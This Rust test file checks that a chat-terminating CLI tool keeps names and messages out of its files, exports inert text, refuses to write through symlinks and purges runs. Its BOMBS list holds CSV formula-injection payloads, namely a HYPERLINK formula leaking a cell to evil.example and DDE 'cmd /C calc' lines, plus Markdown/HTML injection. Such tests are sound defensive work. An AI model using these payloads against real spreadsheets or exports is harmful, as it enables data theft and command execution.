//! What is kept of runs, with the real binary: no name and no message in any file, exports that are only text, and runs removed for good.

use std::fs;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::support::served::Served;
use crate::support::{Home, Ran};

/// Names and a message that can be searched for.
const CANARIES: [&str; 4] = [
    "Canarywoman Okonjo",
    "Canaryagent Lindqvist",
    "Canaryqueue Overdue",
    "canary-message-7731",
];

/// Two chats of named people, one of whom writes before anything is ended.
fn staged(home: &Home) -> Served {
    let [customer, agent, queue, text] = CANARIES;
    let scenario = format!(
        "description = \"canaries\"\n[[queue]]\nname = \"{queue}\"\n[[chat]]\nkind = \"orphan\"\nlabel = \"one\"\ncustomer = \"{customer}\"\nagent = \"{agent}\"\nqueue = \"{queue}\"\n\
         [[chat]]\nkind = \"idle\"\nlabel = \"two\"\ncustomer = \"{customer}\"\nagent = \"{agent}\"\nqueue = \"{queue}\"\n\
         [[event]]\nevent = \"customer-writes\"\nconversation = \"two\"\nafter_ms = 0\ntext = \"{text}\"\n"
    );
    let scenario = home.write("canaries.toml", &scenario);
    Served::start(home, &[scenario.to_str().unwrap()])
}

fn terminate(home: &Home, served: &Served, filter: &str, note: &str) -> Ran {
    let flag = served.flag();
    let ids = served.of_kind(home, filter).join(",");
    let arguments = [
        "terminate",
        &flag,
        "--ids",
        &ids,
        "--confirm",
        "sandbox 1",
        "--note",
        note,
    ];
    home.run(&arguments)
}

/// Every file under a folder.
fn files(folder: &Path) -> Vec<PathBuf> {
    let mut folders = vec![folder.to_owned()];
    let mut files = Vec::new();
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else {
                files.push(path);
            }
        }
    }
    files
}

/// Files that hold these bytes.
fn holding(folder: &Path, bytes: &str) -> Vec<PathBuf> {
    let holds = |path: &PathBuf| {
        let found = fs::read(path).unwrap_or_default();
        found
            .windows(bytes.len())
            .any(|window| window == bytes.as_bytes())
    };
    files(folder).into_iter().filter(holds).collect()
}

#[test]
fn t65_no_name_and_no_message_is_in_any_file_or_export() {
    let home = Home::new();
    let served = staged(&home);
    let flag = served.flag();
    let shown = home.run(&["list", &flag, "--json"]).expect(0).stdout;
    assert!(
        shown.contains(CANARIES[0]) && shown.contains(CANARIES[1]),
        "they are there to be found: {shown}"
    );
    let id = served.of_kind(&home, "orphan")[0].clone();
    let rows = home.run(&["list", &flag, "--json"]).expect(0).json_lines();
    let ids = rows.iter().map(|row| row["id"].as_str().unwrap());
    let said: Vec<String> = ids
        .map(|id| {
            home.run(&["show", &flag, id, "--transcript"])
                .expect(0)
                .stdout
        })
        .collect();
    assert!(said.concat().contains(CANARIES[3]), "{said:?}");
    let log = ["--log-level", "trace"];
    let mut arguments = vec![
        "terminate",
        &flag,
        "--ids",
        &id,
        "--confirm",
        "sandbox 1",
        "--note",
        "tidy",
    ];
    arguments.extend(log);
    home.run(&arguments).expect(0);
    // A journal that is open, so that its log is there to be searched.
    let _reader = rusqlite::Connection::open(home.path("home/data/journal.db")).unwrap();
    for (form, file) in [
        (None, "run.jsonl"),
        (Some("--csv"), "run.csv"),
        (Some("--markdown"), "run.md"),
    ] {
        let mut arguments = vec!["runs", "export", "1", "--output", file];
        arguments.extend(form);
        home.run(&arguments).expect(0);
    }
    let mut printed = String::new();
    for arguments in [
        vec!["runs"],
        vec!["runs", "--json"],
        vec!["runs", "show", "1"],
        vec!["runs", "show", "1", "--json"],
    ] {
        printed.push_str(&home.run(&arguments).expect(0).stdout);
    }
    // The scenario is the only file that was told of them.
    let scenario = vec![home.path("canaries.toml")];
    for canary in CANARIES {
        assert_eq!(holding(&home.path(""), canary), scenario, "{canary}");
        assert!(!printed.contains(canary), "{canary}: {printed}");
    }
    for file in ["run.jsonl", "run.csv", "run.md", "home/data/journal.db"] {
        assert!(
            holding(&home.path(""), &id).contains(&home.path(file)),
            "{file} was searched"
        );
    }
}

/// Notes that would run in a spreadsheet, or be more than text in a document.
const BOMBS: [&str; 12] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "a;=1+1",
    "\"=1+1",
    "x | y | z [click](http://evil.example) `code` <img src=http://evil.example>",
    "| --- | www.evil.example **b** ![](http://evil.example)",
];

#[test]
fn f46_an_export_is_only_text_whatever_the_note_says() {
    let home = Home::new();
    let scenario = format!(
        "description = \"bombs\"\n[[chat]]\nkind = \"orphan\"\ncount = {}\n",
        BOMBS.len()
    );
    let scenario = home.write("bombs.toml", &scenario);
    let served = Served::start(&home, &[scenario.to_str().unwrap()]);
    let flag = served.flag();
    let ids = served.of_kind(&home, "orphan");
    for (id, bomb) in ids.iter().zip(BOMBS) {
        // With `=`: a value that begins with a dash is a value all the same.
        let note = format!("--note={bomb}");
        home.run(&[
            "terminate",
            &flag,
            "--ids",
            id,
            "--confirm",
            "sandbox 1",
            &note,
        ])
        .expect(0);
    }
    for (number, bomb) in (1..).zip(BOMBS) {
        let number = number.to_string();
        let csv = home
            .run(&["runs", "export", &number, "--csv"])
            .expect(0)
            .stdout;
        let mut table = csv::Reader::from_reader(csv.as_bytes());
        let heads = table.headers().unwrap().clone();
        let line = table.records().next().unwrap().unwrap();
        let note = &line[heads.iter().position(|head| head == "note").unwrap()];
        for cell in &line {
            for part in cell.split(';') {
                let bare = part.trim_start_matches(['"', ' ']);
                assert!(
                    !bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r']),
                    "{cell}"
                );
            }
        }
        assert_eq!(
            note.replace('\'', ""),
            bomb.replace('\'', ""),
            "nothing else of it is changed"
        );
        let quoted = csv.lines().nth(1).unwrap();
        assert_eq!(
            quoted.matches("\",\"").count(),
            heads.len() - 1,
            "every cell is quoted: {quoted}"
        );

        let document = home
            .run(&["runs", "export", &number, "--markdown"])
            .expect(0)
            .stdout;
        is_inert_markdown(&document);
        let json = home
            .run(&["runs", "export", &number])
            .expect(0)
            .json_lines();
        assert_eq!(
            json[0]["header"]["note"],
            Value::from(bomb),
            "JSON says exactly what was typed"
        );
    }
}

/// Each row of a table has its cells and no more, and whatever came from outside is inside of a span of code.
fn is_inert_markdown(document: &str) {
    let mut width = 0;
    for line in document.lines() {
        let Some(inside) = line
            .strip_prefix('|')
            .and_then(|line| line.strip_suffix('|'))
        else {
            assert!(line.is_empty() || line.starts_with("# Run "), "{line}");
            width = 0;
            continue;
        };
        let cells: Vec<&str> = inside.split('|').map(str::trim).collect();
        width = if width == 0 { cells.len() } else { width };
        assert_eq!(cells.len(), width, "{line}");
        for cell in cells {
            let is_word = cell
                .chars()
                .all(|c| c.is_ascii_alphabetic() || c == ' ' || c == '-');
            let code = cell
                .strip_prefix('`')
                .and_then(|cell| cell.strip_suffix('`'));
            assert!(
                is_word || code.is_some_and(|code| !code.contains('`')),
                "{cell}"
            );
        }
    }
}

#[cfg(unix)]
#[test]
fn t61_an_export_goes_over_no_file_and_through_no_link() {
    use std::os::unix::fs::PermissionsExt as _;
    let home = Home::new();
    let served = staged(&home);
    terminate(&home, &served, "orphan", "tidy").expect(0);
    home.write("victim", "precious");
    std::os::unix::fs::symlink(home.path("victim"), home.path("link")).unwrap();
    std::os::unix::fs::symlink(home.path("victim"), home.path("new.csv.part")).unwrap();
    std::os::unix::fs::symlink(home.path("nowhere"), home.path("dangling")).unwrap();
    for name in ["victim", "link", "dangling"] {
        let refused = home
            .run(&["runs", "export", "1", "--output", name])
            .expect(2);
        assert!(refused.stderr.contains("cannot be written"), "{refused:?}");
    }
    home.run(&["runs", "export", "1", "--csv", "--output", "new.csv"])
        .expect(0);
    assert_eq!(fs::read_to_string(home.path("victim")).unwrap(), "precious");
    assert!(!home.path("nowhere").exists());
    let written = home.path("new.csv").symlink_metadata().unwrap();
    assert!(written.is_file());
    assert_eq!(written.permissions().mode() & 0o777, 0o600);
    // Cut off before it is whole, there is nothing under its name.
    for (point, is_there) in [("before-export", false), ("after-export", true)] {
        let mut command = home.command(&["runs", "export", "1", "--output", point]);
        let died = command.env("UNSTICK_CRASH_AT", point).output().unwrap();
        assert_eq!(died.status.code(), None, "{point}");
        assert_eq!(home.path(point).exists(), is_there, "{point}");
    }
}

#[test]
fn t66_runs_purge_removes_what_is_old_asks_first_and_leaves_no_byte() {
    const NOTE: &str = "canary-note-5512";
    let home = Home::new();
    let served = staged(&home);
    let id = served.of_kind(&home, "orphan")[0].clone();
    terminate(&home, &served, "orphan", NOTE).expect(0);

    // Nothing is old enough by itself, and nothing goes without being asked for.
    let none = home.run(&["runs", "purge"]).expect(0);
    assert!(none.stderr.contains("0 runs removed"), "{none:?}");
    home.write("home/config/config.toml", "[journal]\nkeep_days = 0\n");
    home.run(&["runs", "purge"])
        .refused(2, &["config.toml:2", "out of bounds"]);
    fs::remove_file(home.path("home/config/config.toml")).unwrap();
    let dry = home
        .run(&["runs", "purge", "--before", "0d", "--dry-run"])
        .expect(0);
    assert!(
        dry.stdout.contains("0001") && dry.stderr.contains("1 runs would be removed"),
        "{dry:?}"
    );
    let asked = home.run(&["runs", "purge", "--before", "0d"]).expect(2);
    assert!(asked.stderr.contains("--confirm 'purge 1'"), "{asked:?}");
    home.run(&["runs", "purge", "--before", "0d", "--confirm", "purge 2"])
        .expect(5);
    home.run(&["runs", "purge", "--before", "soon", "--confirm", "purge 1"])
        .refused(2, &["2026-03-01 or 90d"]);
    home.run(&["runs", "purge", "7"])
        .refused(6, &["no run 0007"]);
    assert!(!holding(&home.path("home/data"), NOTE).is_empty());

    let done = home
        .run(&["runs", "purge", "1", "--confirm", "purge 1"])
        .expect(0);
    assert!(done.stderr.contains("1 runs removed"), "{done:?}");
    for canary in [NOTE, &id] {
        assert_eq!(
            holding(&home.path("home"), canary),
            Vec::<PathBuf>::new(),
            "{canary}"
        );
    }
    let verified = home.run(&["runs", "verify"]).expect(0).stdout;
    assert_eq!(verified, "0 runs, 0 facts, 0 faults, 1 purged\n");
    home.run(&["runs", "show", "1"])
        .refused(6, &["run 0001 was purged at"]);
    home.run(&["runs", "export", "1"])
        .refused(6, &["run 0001 was purged at"]);
}

#[test]
fn a_run_that_was_cut_off_is_not_purged() {
    let home = Home::new();
    let served = staged(&home);
    let id = served.of_kind(&home, "orphan")[0].clone();
    let mut command = home.command(&[
        "terminate",
        &served.flag(),
        "--ids",
        &id,
        "--confirm",
        "sandbox 1",
    ]);
    let died = command
        .env("UNSTICK_CRASH_AT", "after-intent")
        .output()
        .unwrap();
    assert_eq!(died.status.code(), None);
    let kept = home.run(&["runs", "purge", "--before", "0d"]).expect(0);
    assert!(
        kept.stderr.contains("run 0001 is kept: it did not finish"),
        "{kept:?}"
    );
    home.run(&["runs", "purge", "1", "--confirm", "purge 1"])
        .expect(5);
    let runs = home.run(&["runs"]).expect(0).stdout;
    assert!(runs.contains("unfinished"), "{runs}");
}
